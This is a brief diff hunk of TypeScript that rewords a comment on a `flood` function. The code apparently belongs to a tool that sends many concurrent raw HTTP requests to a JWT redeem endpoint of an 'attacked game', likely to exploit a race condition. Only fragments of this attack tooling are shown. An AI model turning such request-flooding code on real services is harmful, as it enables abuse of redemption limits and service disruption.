@@ -15,7 +15,7 @@ function redeemHead({ attackedGame }: AttackContext, framing: string): string {
   return `POST /api/auth/jwt/redeem/ HTTP/1.1\r\n${HOST}${key}${JSON_TYPE}${framing}\r\n\r\n`
 }
 
-/** As many calls at once as `lanes`, one after the other in each. */
+/** `lanes` calls at the same time, one after another in each lane. */
 export async function flood(
   context: AttackContext,
   lanes: number,
